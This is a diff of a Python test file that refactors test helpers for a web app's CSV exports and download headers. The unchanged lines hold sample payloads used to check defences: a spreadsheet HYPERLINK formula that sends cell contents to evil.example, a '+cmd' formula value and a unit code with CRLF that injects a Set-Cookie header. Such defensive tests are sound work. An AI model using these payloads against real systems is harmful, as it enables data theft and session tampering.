@@ -16,10 +16,7 @@ from werkzeug.http import parse_options_header
 from app.exports import FORMULA_STARTS, attachment_headers, read_cell, safe_cell
 from app.extensions import db
 from app.models import Cadre, Unit
-from tests.conftest import write_course
-from tests.test_profiles import world  # noqa: F401 (fixture)
-from tests.test_quiz_results import seed_attempts
-from tests.test_review import CITY_ADMIN, run_import
+from tests.helpers import CITY_ADMIN, run_import, seed_attempts, write_course
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 EVIL_UNIT = "+cmd"
@@ -33,7 +30,7 @@ REVIEW_EXPORTS = [
 
 
 @pytest.fixture
-def planted(world, app):  # noqa: F811
+def planted(world, app):
     """A cadre and a unit with names that a spreadsheet would run as formulas (as an import by a
     ward admin could plant them)."""
     with app.app_context():
@@ -122,10 +119,9 @@ pass_mark: 50
 
 
 def test_item_analysis_csv_is_neutralised_and_keeps_negative_numbers(
-    app, make_user, auth, client, courses_root, import_folder, monkeypatch
+    app, make_user, auth, client, courses_root, import_folder
 ):
-    monkeypatch.setattr("tests.test_quiz_results.QUIZ", QUIZ)
-    seed_attempts(app, courses_root, import_folder)
+    seed_attempts(app, courses_root, import_folder, QUIZ)
     make_user("gv@example.vn", role="trainer")
     auth.login("gv@example.vn")
     response = client.get("/teach/courses/DE/quizzes/de/items.csv")
@@ -200,7 +196,7 @@ def test_attachment_headers_cannot_be_broken(name, fallback, full):
     assert unquote(header.split("filename*=UTF-8''")[1]) == full
 
 
-def test_a_unit_code_with_crlf_and_quotes_never_reaches_a_header(world, app, auth, client):  # noqa: F811
+def test_a_unit_code_with_crlf_and_quotes_never_reaches_a_header(world, app, auth, client):
     """Such a code (left in the data by an older version) is refused as a parameter with a 400;
     the file name function keeps headers whole whatever it is given (the test above)."""
     bad = 'SO-NV"; x\r\nSet-Cookie: a=b'
